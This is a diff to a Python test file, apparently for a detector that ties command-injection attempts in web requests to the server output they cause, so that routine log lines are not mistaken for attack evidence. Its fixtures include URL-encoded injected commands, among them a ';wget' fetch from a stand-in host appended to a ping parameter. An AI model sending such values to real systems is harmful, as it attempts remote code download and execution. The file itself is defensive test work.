@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+from dataclasses import replace
+
 import pytest
 from tests.detection.behaviours.story import Story, clock
 
@@ -9,6 +11,8 @@ from siaga.detection.behaviours.injection.process_output import Outputs
 
 BAD = "203.0.113.5"
 AT = "10 14:00:10"
+WEATHER = "HTTP request sent, awaiting response... 200 OK"
+JOB = "Saving to: 'cache/prakiraan.xml'"
 
 
 def _story(query: str = "host=8.8.8.8%3Bwget+http%3A%2F%2F198.51.100.9%2Fkucing77") -> Story:
@@ -75,6 +79,15 @@ def test_a_clock_that_was_compared_is_set_right() -> None:
     assert _near(story) == ["sh: 1: whoami: not found"]
 
 
+@pytest.mark.parametrize(
+    "message", [WEATHER, "ping: kec.kota.example: Name or service not known", "sh: 1: convert: not found"]
+)
+def test_stock_phrases_of_tools_name_nothing(message: str) -> None:
+    story = _story("command=request&name=found&service=awaiting")
+    story.tell("10 14:03:00", "output", message=message)
+    assert _near(story) == []
+
+
 def test_common_words_name_nothing() -> None:
     story = _story("page=index%3Becho")
     story.tell(None, "output", message="index page: http echo")
@@ -100,3 +113,41 @@ def test_nearness_in_time_is_not_enough_for_output_without_a_stamp() -> None:
     story.tell("10 14:00:11", "error", message="started")
     story.tell("10 14:00:11", "output", message="sh: 1: whoami: not found", stamped=False)
     assert _near(story) == []
+
+
+def _job(story: Story, *days: int) -> None:
+    """Let a job of the server's own speak at noon, between stamped lines."""
+    for day in days:
+        story.tell(f"{day:02} 11:59:00", "error", message="before")
+        story.tell(f"{day:02} 11:59:00", "output", message=JOB, stamped=False)
+        story.tell(f"{day:02} 12:01:00", "error", message="after")
+
+
+def test_what_a_job_of_the_server_says_day_by_day_goes_with_no_attack() -> None:
+    story = _story("x=prakiraan.xml%3Bkucing77")
+    story.requests[0] = replace(story.requests[0], time_us=clock("10 12:00:00"))
+    _job(story, 7, 8, 9, 10)
+    assert _near(story) == []
+
+
+@pytest.mark.parametrize("days", [(9, 10), (10, 11, 12, 13)])
+def test_what_was_not_yet_usual_when_the_attack_came_may_be_its_own(days: tuple[int, ...]) -> None:
+    story = _story("x=prakiraan.xml%3Bkucing77")
+    story.requests[0] = replace(story.requests[0], time_us=clock("10 12:00:00"))
+    _job(story, *days)
+    assert _near(story)
+
+
+def test_a_word_that_the_log_always_uses_names_nothing() -> None:
+    story = _story("x=prakiraan.xml%3Bkucing77")
+    _job(story, 6, 7, 8, 9)
+    story.tell("10 14:03:00", "output", message="prakiraan.xml is told of for once")
+    story.tell("10 14:03:00", "output", message="Saving to: 'kucing77'")
+    assert _near(story) == ["Saving to: 'kucing77'"]
+
+
+def test_a_complaint_about_the_whole_payload_is_no_witness() -> None:
+    story = _story("host=127.0.0.1%3Bkucing77")
+    story.tell("10 14:00:12", "output", message="ping: 127.0.0.1;kucing77: Name or service not known")
+    story.tell("10 14:00:12", "output", message="sh: 1: kucing77: not found")
+    assert _near(story) == ["sh: 1: kucing77: not found"]
